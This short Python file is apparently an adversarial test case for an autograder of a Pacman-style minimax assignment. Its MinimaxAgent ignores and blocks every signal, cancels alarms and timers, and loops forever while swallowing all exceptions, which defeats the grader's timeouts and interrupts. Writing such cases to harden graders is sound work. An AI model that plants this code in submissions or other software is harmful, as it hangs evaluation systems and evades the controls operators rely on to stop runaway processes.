# attack: ignores and blocks every signal that can be, and loops for ever.
# where: MinimaxAgent
import signal

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        for number in signal.valid_signals():
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.alarm(0)
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
